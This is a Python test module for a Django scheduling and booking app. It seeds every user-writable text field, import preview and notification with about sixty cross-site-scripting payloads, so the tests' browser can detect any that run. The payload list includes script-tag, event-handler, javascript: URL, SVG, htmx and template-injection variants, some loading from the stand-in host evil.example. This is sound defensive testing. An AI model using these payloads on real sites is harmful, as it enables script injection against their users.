"""Sixty ways to make a page run a script, and a business whose every text holds them.

Each calls `ran(number)`, which the tests' browser reports, or asks a host that nobody may ask. They are short, so that
several stand in one name; what is longer holds all of them.
"""

from collections import Counter
from datetime import timedelta
from itertools import cycle
from typing import Any

from django.apps import apps
from django.db import models, transaction

from tenpo.books.actions.reconciling import clear_difference
from tenpo.core.business import forget_business
from tenpo.notify.tests.make import make_notification
from tenpo.orders.models import CancellationPolicy
from tenpo.people.actions.imports import preview_people_import
from tenpo.people.tests.make import make_member
from tenpo.schedule.actions.cancellations import cancel_session
from tenpo.schedule.actions.imports import preview_sessions_import
from tenpo.schedule.models import Session
from tenpo.schedule.tests.make import make_session
from tests.world import World, calendar_file, make_world

_SHAPES = """
<script>{}</script>
</script><script>{}</script>
<script src=//evil.example></script>
<ScRiPt>{}</sCrIpT>
<scr<script>ipt>{}</script>
<img src=x onerror={}>
<img/src=x/onerror={}>
<img src=x onerror="{}"
<IMG SRC=x OnErRoR={}>
<img srcset=x onerror={}>
<img src=//evil.example/x>
"><img src=x onerror={}>
'><img src=x onerror={}>
--><img src=x onerror={}>
]]><img src=x onerror={}>
</title><img src=x onerror={}>
</textarea><img src=x onerror={}>
</style><img src=x onerror={}>
</noscript><img src=x onerror={}>
</template><img src=x onerror={}>
<svg onload={}>
<svg/onload={}>
"><svg onload={}>
<svg><script>{}</script></svg>
<svg><animate onbegin={} attributeName=x>
<svg><set onbegin={} attributeName=x>
<svg><a xlink:href="javascript:{}"><text>x
<math><a xlink:href="javascript:{}">x
<math><mi><style><img src=x onerror={}>
<body onload={}>
<body onpageshow={}>
<input autofocus onfocus={}>
<a href=# autofocus tabindex=1 onfocus={}>x
" autofocus onfocus={} x="
' autofocus onfocus={} x='
" onmouseover={} x="
` onmouseover={} `
<details open ontoggle={}>
<video><source onerror={}>
<audio src=x onerror={}>
<iframe src=javascript:{}></iframe>
<iframe srcdoc="<script>parent.{}</script>">
<object data=javascript:{}></object>
<embed src=javascript:{}>
<form action=javascript:{}><button>x
<button formaction=javascript:{} form=f>x
<a href="javascript:{}">x</a>
<a href=" jav&#x09;ascript:{}">x</a>
javascript:{}
JaVaScRiPt:{}//
data:text/html,<script>{}</script>
<base href=//evil.example/>
<link rel=stylesheet href=//evil.example>
<meta http-equiv=refresh content="0;javascript:{}">
<style>@import '//evil.example'</style>
<marquee onstart={}>x
<p hx-on:htmx:load={} hx-get=/ hx-trigger=load>
<p hx-get=//evil.example hx-trigger=load>
{{{{constructor.constructor('{}')()}}}}${{{}}}
&lt;img src=x onerror={}&gt;\\u003cimg src=x onerror={}\\u003e
""".strip().splitlines()
PAYLOADS = [shape.format(*[f"ran({number})"] * 2) for number, shape in enumerate(_SHAPES)]
ALL = " ".join(PAYLOADS)
HOST = "evil.example"

# Texts that are ours, and are read by programs: states, kinds, numbers, hashes, rules. All else is poisoned.
CODES = {
    "action_url", "currency", "email", "event_id", "failure_code", "fingerprint", "key", "kind", "locale", "number",
    "prefix", "provider", "reference", "role", "route", "rule", "secret_hash", "state", "time_zone", "token_hash",
    "card", "consumer", "file_key", "mime_type", "password", "request_id", "source_id",
    "sync_token",
}  # fmt: skip
# Nobody may write these again: what stands there came by the actions below.
APPEND_ONLY = {
    "audit.AuditLog", "books.DayClose", "books.DayCloseLine", "ledger.Account", "ledger.Transfer",
    "orders.CancellationPolicy", "orders.SharePolicy",
}  # fmt: skip
# Written together with who wrote it and when: it comes by its action, below.
BY_ACTION = {"books.Difference.note"}
# What holds no text of people, but a session's or an event's own code.
OURS = {"core.OutboxMessage.name", *BY_ACTION, "people.Visit.session_key", "people.Visit.session_data"}


# Texts that a constraint leaves to some of the rows: empty ones stay empty.
SAID_OR_NOT = {"schedule.Miss.reason", "schedule.SessionResource.link"}


def chunk(start: int, longest: int | None) -> str:
    """As many payloads as have room, from the one with this number on."""
    if longest is None or longest > len(ALL):
        return ALL
    said = ""
    for step in range(len(PAYLOADS)):
        one = PAYLOADS[(start + step) % len(PAYLOADS)]
        if len(said) + len(one) + 1 <= longest:
            said += f" {one}" if said else one
    return said


def text_fields() -> list[tuple[type[models.Model], list[Any]]]:
    """The texts of each model of ours that somebody may have written."""
    found = []
    for model in apps.get_models():
        if not model.__module__.startswith("tenpo.") or model._meta.label in APPEND_ONLY:
            continue
        fields = [
            field
            for field in model._meta.concrete_fields
            if isinstance(field, models.CharField | models.TextField)
            and not (field.choices or field.primary_key or field.name in CODES or field.generated)
            and str(field) not in OURS
        ]
        if fields:
            found.append((model, fields))
    return found


def poison(shift: int) -> Counter[str]:
    """Write payloads into every text of every row, others for each row and field; how often each payload stands."""
    placed: Counter[str] = Counter()
    forget_business()
    starts = cycle(range(shift, shift + 7 * len(PAYLOADS), 7))
    for model, fields in text_fields():
        for row in model._default_manager.order_by("pk"):
            written = {
                field.name: chunk(next(starts), field.max_length)
                for field in fields
                if str(field) not in SAID_OR_NOT or getattr(row, field.name)
            }
            for link in {"join_link", "link"} & written.keys():
                # A row from before links were looked at: the page must not become a link to a script.
                written[link] = f"javascript:ran({next(starts) % 60})"
            if "source_uid" in written:
                written["source_uid"] = f"{row.pk}{written['source_uid']}"[:255]
            model._default_manager.filter(pk=row.pk).update(**written)
            placed.update(payload for payload in PAYLOADS for text in written.values() if payload in text)
    return placed


def make_poisoned_world() -> World:
    """The business of `tests/world.py`, with more people and sessions, and payloads in whatever is text.

    What happens after the texts are there (a session is called off, a file is brought in) carries them into mails,
    notifications, the audit log and previews.
    """
    with transaction.atomic():
        world = make_world()
    coach, admin, member = (world.people[part] for part in ("coach", "admin", "member"))
    for number in range(20):
        make_member()
        make_session(world.people["coach2"], starts_in=timedelta(days=60 + number), price=0)
    for number in range(20):
        CancellationPolicy.objects.create(name=chunk(number * 3, 80), windows=[{"hours_before": 0, "percent": 0}])
    poison(0)
    clear_difference(world.things["difference"], note=chunk(5, 200), by=admin)
    cancel_session(Session.objects.get(pk=world.things["booked"].pk), reason=chunk(3, 300), by=coach)
    for number in range(0, len(PAYLOADS), 12):
        make_notification(member, session=" ".join(PAYLOADS[number : number + 12]))
    rows = "".join(f'"n{number}@example.com","{_csv(one)}",member\n' for number, one in enumerate(PAYLOADS))
    people = preview_people_import(chunk(20, 200), f"email,name,role\n{rows}".encode(), by=admin)
    plan = preview_sessions_import(
        chunk(40, 200), calendar_file("x", chunk(9, 120).replace("\\", ""), 90), coach=coach, by=coach
    )
    return World(world.people, world.cookies, world.keys, {**world.things, "import": people, "plan": plan}, [])


def _csv(text: str) -> str:
    return text.replace('"', '""')
